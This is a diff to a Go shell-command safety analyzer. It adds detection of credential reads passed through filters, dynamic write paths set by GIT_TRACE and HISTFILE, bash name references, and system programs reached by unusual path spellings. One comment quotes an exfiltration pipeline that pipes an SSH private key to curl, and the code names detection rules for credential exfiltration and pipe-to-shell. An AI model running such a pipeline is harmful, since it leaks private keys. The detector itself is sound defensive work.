@@ -62,6 +62,9 @@ func (a *analyzer) call(x *syntax.CallExpr, in *stdin) eff {
 	if in.cred && e&effNetwork != 0 {
 		a.find(c, "exfil.credential", Deny, "A credential file is redirected into a network command")
 	}
+	if in.cred {
+		e |= effCredRead // tr a b < ~/.ssh/id_rsa | curl -d @- URL: filters pass it on
+	}
 	if in.net && e&effShellStdin != 0 {
 		a.find(c, "network.pipe-to-shell", Deny, "Downloaded or decoded content is fed to a shell or interpreter")
 	}
@@ -107,6 +110,17 @@ func (a *analyzer) assign(as *syntax.Assign, c *callInfo, bare bool) {
 	}
 	name := as.Name.Value
 	a.envName(name, c)
+	a.assignRef(name, c)
+	a.envFile(name, val, known, c)
+	if name == "CDPATH" {
+		// Sticky: a CDPATH set anywhere in the command makes every later cd DIR uncertain.
+		switch {
+		case !known:
+			a.cdpath = dyn
+		case val != "" && !strings.Contains(a.cdpath, dyn):
+			a.cdpath = strings.Trim(a.cdpath+":"+val, ":")
+		}
+	}
 	if bare && (taint != 0 || a.taint[name] != 0) {
 		if a.taint == nil {
 			a.taint = map[string]eff{}
@@ -136,6 +150,63 @@ func (a *analyzer) envName(name string, c *callInfo) {
 	}
 }
 
+// envFile judges the value of an environment variable that names a file a program writes:
+// Git appends its traces to the absolute path in GIT_TRACE* (git(1) "GIT_TRACE"), and an
+// interactive bash writes its history to HISTFILE when it exits (bash(1)).
+func (a *analyzer) envFile(name, val string, known bool, c *callInfo) {
+	switch {
+	case strings.HasPrefix(name, "GIT_TRACE"):
+		if !known {
+			a.find(c, "write.dynamic-path", Ask, name+" names a trace file only known at run time")
+		} else if strings.HasPrefix(val, "/") {
+			a.writeTarget(lit(val), "write", c.pos, c.end)
+		}
+	case name == "HISTFILE":
+		if !known {
+			a.find(c, "write.dynamic-path", Ask, name+" names a history file only known at run time")
+		} else if val != "" {
+			a.writeTarget(lit(val), "write", c.pos, c.end)
+		}
+	}
+}
+
+// nameref records that ref is a name reference (declare -n ref=target; target.s is "" when
+// it is not given yet): the values of both names are unknown from now on, setting the
+// reference sets the target (judged as such), and a reference whose target is only known at
+// run time may set any variable.
+func (a *analyzer) nameref(ref string, target arg, c *callInfo) {
+	if a.aliased == nil {
+		a.aliased = map[string]bool{}
+	}
+	a.aliased[ref] = true
+	a.forget(ref)
+	name := target.s
+	if i := strings.IndexByte(name, '['); i >= 0 {
+		name = name[:i]
+	}
+	if target.dyn || !validName(name) {
+		if target.dyn {
+			a.find(c, "env.dynamic", Ask, "declare -n refers to a variable named only at run time")
+		}
+		if a.refOpen == nil {
+			a.refOpen = map[string]bool{}
+		}
+		a.refOpen[ref] = true
+		return
+	}
+	a.envName(name, c)
+	a.aliased[name] = true
+	a.forget(name)
+}
+
+// assignRef judges setting name when it is a name reference whose target is not known:
+// the assignment may set any variable.
+func (a *analyzer) assignRef(name string, c *callInfo) {
+	if a.refOpen[name] {
+		a.find(c, "env.dynamic", Ask, "Setting the name reference "+name+" sets a variable named only at run time")
+	}
+}
+
 // decl judges declare, typeset, export, local, readonly and nameref.
 func (a *analyzer) decl(x *syntax.DeclClause) {
 	c := a.newCall(int(x.Pos().Offset()), int(x.End().Offset()))
@@ -147,12 +218,20 @@ func (a *analyzer) decl(x *syntax.DeclClause) {
 				nameref = true
 			}
 		}
-		if nameref && as.Value != nil && !as.Naked {
-			// declare -n ref=PATH: assigning ref later assigns PATH.
-			if l := as.Value.Lit(); l != "" {
-				a.envName(l, c)
+		if !nameref || as.Name == nil {
+			continue
+		}
+		// declare -n ref=PATH: assigning ref later assigns PATH, and $ref is PATH's value.
+		var target arg
+		if as.Value != nil && !as.Naked {
+			var buf [2]arg
+			if vs := a.word(buf[:0], as.Value, false); len(vs) == 1 {
+				target = vs[0]
+			} else {
+				target = arg{s: dyn, dyn: true}
 			}
 		}
+		a.nameref(as.Name.Value, target, c)
 	}
 	for _, as := range x.Args {
 		if as.Naked && as.Name == nil {
@@ -446,6 +525,7 @@ var runsCommand = map[string]bool{
 	"env": true, "sudo": true, "doas": true, "xargs": true, "bwrap": true, "flock": true,
 	"watch": true, "busybox": true, "exec": true, "command": true, "builtin": true,
 	"parallel": true, "perf": true, "gdb": true, "lldb": true, "hyperfine": true,
+	"runuser": true, "su": true,
 }
 
 // readsNoContent lists programs that never read the contents of the files they name: they
@@ -501,6 +581,14 @@ func (a *analyzer) judgeProgram(argv []arg, c *callInfo) eff {
 				return 0
 			}
 			a.find(c, "exec.workspace-code", Ask, "The program "+name+" is run from a path")
+			if p, ok := a.resolve(a0); ok && !strings.Contains(p, dyn) {
+				// /usr/bin/../bin/rm, //bin//rm, ../../usr/bin/rm: a system program under
+				// another spelling. Symbolic links may make the path name something else,
+				// so this only adds the system program's findings to the ask above.
+				if j := strings.LastIndexByte(p, '/'); systemBinDir(p[:j]) {
+					return a.judgeProgram(append([]arg{{s: p[j+1:], w: a0.w}}, argv[1:]...), c)
+				}
+			}
 			return 0
 		}
 		name = name[i+1:]
